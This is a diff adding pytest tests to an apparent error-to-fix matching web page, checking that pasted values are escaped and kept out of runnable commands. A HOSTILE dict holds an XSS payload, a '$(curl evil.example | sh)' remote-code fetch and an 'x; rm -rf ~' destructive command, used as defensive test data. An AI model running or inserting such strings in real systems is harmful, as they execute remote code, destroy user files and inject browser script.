@@ -1,5 +1,6 @@
 """The match page: the paste box and the answer."""
 
+import html
 import re
 
 import pytest
@@ -560,3 +561,53 @@ def test_an_error_line_of_100_kb_is_answered_with_a_short_headline(client):
 
     assert headline.startswith("ValueError: soup")
     assert len(headline) <= 301
+
+
+# ── values that nobody expects ──────────────────────────────────────────────────────────────────────────────────────
+
+HOSTILE = {
+    "HTML": "<img src=x onerror=alert(1)>",
+    "a shell command": "$(curl evil.example | sh)",
+    "a second command": "x; rm -rf ~",
+    "a path with spaces": "/data/my models/last one.ckpt",
+    "300 characters": "deep/" * 60,
+    "a backtick and a brace": "`{{place|x}}`",
+}
+
+
+@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_value_is_text_in_prose_and_never_part_of_a_command(client, articles_dir, value):
+    set_fix(articles_dir, "Look at {{place|it}}, then run `pip install {{place|PACKAGE}}`.")
+
+    response = paste(client, f"RuntimeError: boom happened in '{value}'")
+    page = response.content.decode()
+
+    assert "Known error" in text(response)
+    assert f'<span class="yours">{html.escape(value)}</span>' in page  # in the prose of the fix
+    assert 'pip install <span class="example"' in page
+    assert "run-this" not in page
+    assert "<img src=x" not in page
+
+
+def test_a_value_of_more_than_300_characters_is_cut_in_the_fix(client, articles_dir):
+    set_fix(articles_dir, "Look at {{place|it}}.")
+
+    page = paste(client, f"RuntimeError: boom happened in '{'x' * 1000}'").content.decode()
+
+    assert f'<span class="yours">{"x" * 300}…</span>' in page
+
+
+def test_an_error_line_of_100_kb_is_answered_with_its_beginning(client):
+    response = paste(client, f"SoupError: the soup of {'many words ' * 10_000}is cold\n")
+
+    assert "SoupError: the soup of many words" in text(response)
+    assert len(response.content) < 40_000
+
+
+def test_what_a_cut_paste_names_is_explained_beside_the_lines_that_it_lacks(client):
+    said = """HTTPSConnectionPool(host='hub.example', port=443): Read timed out. (read timeout=10)"""
+    report = f"""Warning: Failed to read 'soup' of 'kitchen'. Error: (ReadTimeoutError("{said}"), '(Request ID: 7)')"""
+    page = text(paste(client, f"{report}\nTraceback (most recent call last):\n"))
+
+    assert "More lines needed" in page
+    assert "What it means An answer did not come in time" in page
